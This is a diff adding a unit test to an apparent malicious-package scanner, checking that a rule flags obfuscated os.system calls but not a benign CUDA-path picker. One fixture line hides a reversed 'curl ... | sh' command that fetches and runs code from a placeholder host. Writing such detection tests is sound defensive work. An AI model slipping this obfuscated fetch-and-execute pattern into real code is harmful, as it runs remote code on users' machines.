@@ -292,3 +292,19 @@ def test_each_file_is_spliced_once_however_many_rules_ask(monkeypatch: pytest.Mo
     findings = run(ALL_RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
     assert "PV-DL-003" in ids(findings)
     assert calls == ["demo-1.0/setup.py"]
+
+
+def test_one_element_of_a_reversed_sequence_is_no_decoding() -> None:
+    """unsloth picks the newest CUDA folder with ``np.argsort(versions)[::-1][0]`` and links
+    it with ``os.system``: one element taken, nothing decoded. A reversed command stays one."""
+    picked = py(
+        "import os, subprocess\n"
+        "import numpy as np\n"
+        "found = subprocess.check_output(['ls', '-al', '/usr/local']).decode('utf-8').split('\\n')\n"
+        "newest = np.argsort([len(x) for x in found])[::-1][0]\n"
+        "os.system(f'ldconfig /usr/local/{found[newest]}')\n",
+        path="acme/__init__.py",
+    )
+    assert "PV-EXE-001" not in ids(run(RULES, picked))
+    hidden = py("import os\nos.system('hs | a/dilavni.x//:ptth s- lruc'[::-1])\n", path="acme/__init__.py")
+    assert "PV-EXE-001" in ids(run(RULES, hidden))
